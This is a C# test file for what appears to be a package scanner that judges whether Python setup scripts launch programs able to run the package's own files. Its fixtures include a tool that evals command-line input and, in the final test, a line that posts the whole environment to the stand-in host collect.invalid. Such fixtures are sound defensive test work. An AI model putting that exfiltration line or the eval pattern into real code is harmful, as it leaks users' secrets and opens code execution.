using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>What a setup script starts: a program that is known runs no file of the package, whatever it is told; one that runs others may run any.</summary>
public sealed class BuildCommandTests
{
    private const string Evaluates = "import sys\neval(sys.argv[1])\n";
    private const string Cython = "cimport numpy as np\ncdef int add(int a, int b) nogil:\n    return a + b\n";

    private static Verdict Sdist(string setup, string tool = Evaluates, string extension = Cython) => CatalogueInspection.Of(
        Ecosystem.PyPi,
        "zoned-1.0.0.tar.gz",
        new SdistBuilder("zoned", "1.0.0").File("setup.py", setup + "\nfrom setuptools import setup\nsetup(name='zoned', version='1.0.0', packages=['zoned'])\n")
            .File("zoned/__init__.py", "").File("zoned/tool.py", tool).File("zoned/_fast.pyx", extension).Build()).Verdict;

    [Theory]
    [InlineData("import subprocess\ndef ask(flags, name):\n    return subprocess.check_output(['pkg-config'] + flags.split() + [name])\nask(flags, name)\n")]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(['gcc', '-E'] + flags)\nask(flags)\n")]
    public void A_known_program_runs_no_file_of_the_package(string setup) => Sdist(setup).ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(flags)\nask(flags)\n")]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(flags + ['pkg-config'])\nask(flags)\n")]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(['python'] + flags)\nask(flags)\n")]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(['env'] + flags)\nask(flags)\n")]
    [InlineData("import subprocess\ndef ask(flags):\n    return subprocess.check_output(['uv'] + flags + ['x'])\nask(flags)\n")]
    public void One_that_runs_others_may_run_any(string setup) => Sdist(setup).ShouldNotBe(Verdict.Clean);

    [Fact]
    public void Cython_is_no_program_of_its_own() =>
        Sdist("import subprocess\ndef ask(flags):\n    return subprocess.check_output(flags)\nask(flags)\n", tool: "").ShouldBe(Verdict.Clean);

    [Fact]
    public void What_is_started_by_its_name_is_read_to_its_end() =>
        Sdist("import subprocess, sys\nsubprocess.check_output([sys.executable, 'zoned/_fast.pyx'])\n", tool: "").ShouldNotBe(Verdict.Clean);

    [Fact]
    public void What_can_be_read_of_it_counts() =>
        Sdist("import subprocess\ndef ask(flags):\n    return subprocess.check_output(flags)\nask(flags)\n", tool: "", extension: "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n" + Cython)
            .ShouldBe(Verdict.Malicious);
}
